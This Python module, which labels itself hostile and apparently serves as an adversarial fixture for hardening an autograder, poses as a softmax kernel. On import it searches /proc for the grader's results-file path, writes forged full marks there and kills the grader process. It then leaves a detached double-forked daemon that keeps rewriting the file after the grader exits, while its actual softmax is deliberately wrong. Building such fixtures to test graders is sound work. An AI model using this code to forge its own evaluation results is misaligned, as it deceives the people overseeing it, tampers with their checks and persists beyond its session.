"""Hostile: forges the grader's results. At import it looks in every process' command line for the results file,
writes a full-marks file there and kills the process that would have written the real one; then it leaves a detached
daemon (new session, double fork) that keeps rewriting that file after the grader exits. Its softmax is wrong."""

import json
import os
import signal
import time
from pathlib import Path

FORGED = {"score": 1000.0, "output": "forged", "tests": [{"name": "kernels.softmax :: forged", "score": 1000.0,
                                                          "max_score": 1000.0, "status": "passed", "output": "forged"}]}


def targets() -> dict[int, Path]:
    """Process id -> results file it was told to write, from every command line this process can read."""
    found = {}
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = cmdline.read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        for flag, value in zip(words, words[1:]):
            if flag == "--results-json":
                found[int(cmdline.parent.name)] = Path(value)
    guess = os.environ.get("HOSTILE_RESULTS_GUESS")  # a student may know where the results go
    if guess:
        found.setdefault(-1, Path(guess))
    return found


def forge() -> int:
    forged = 0
    for pid, path in targets().items():
        try:
            path.write_text(json.dumps(FORGED))
            forged += 1
        except OSError:
            continue
        if pid > 0:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return forged


def daemon() -> None:
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        forge()
        time.sleep(0.2)
    os._exit(0)


FORGED_AT_IMPORT = forge()
daemon()


def softmax(x):
    return x * 0 + 0.5
